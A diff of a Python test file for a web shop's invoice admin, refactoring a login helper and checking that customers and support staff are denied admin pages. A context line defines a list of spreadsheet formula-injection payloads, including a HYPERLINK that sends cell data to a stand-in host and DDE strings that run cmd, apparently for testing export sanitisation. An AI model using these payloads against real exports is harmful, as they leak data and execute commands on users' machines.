@@ -16,16 +16,11 @@ from kernel.accounts.services import create_user
 from kernel.extensions import db
 from kernel.models import AuditLog
 from tests.invoices.conftest import customer, refund_payment, topup
+from kernel.testing import login
 
 PASSWORD = "customer-password-1"
 INJECTIONS = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
               "@SUM(1+1)", "\t=1+1", " =1+1", "=cmd|' /C notepad'!'A1'"]
-
-
-def login(app, email):
-    client = app.test_client()
-    assert client.post("/login", data={"email": email, "password": PASSWORD}).status_code == 302
-    return client
 
 
 @pytest.fixture
@@ -33,7 +28,7 @@ def admin(shop):
     with shop.app_context():
         create_user("boss@blockhost.test", PASSWORD, name="Boss", role="admin")
         db.session.remove()
-    return login(shop, "boss@blockhost.test")
+    return login(shop, "boss@blockhost.test", PASSWORD)
 
 
 @pytest.fixture
@@ -58,8 +53,8 @@ def test_customers_and_support_cannot_open_the_invoice_admin(shop, month):
     with shop.app_context():
         create_user("helper@blockhost.test", PASSWORD, name="Helper", role="support")
         db.session.remove()
-    customer_client = login(shop, "camille@example.fr")
-    helper = login(shop, "helper@blockhost.test")
+    customer_client = login(shop, "camille@example.fr", PASSWORD)
+    helper = login(shop, "helper@blockhost.test", PASSWORD)
     for path in ("/admin/invoices/", "/admin/invoices/1", "/admin/invoices/1/pdf",
                  "/admin/invoices/export?month=2026-03", "/admin/invoices/settings/"):
         assert customer_client.get(path).status_code == 403
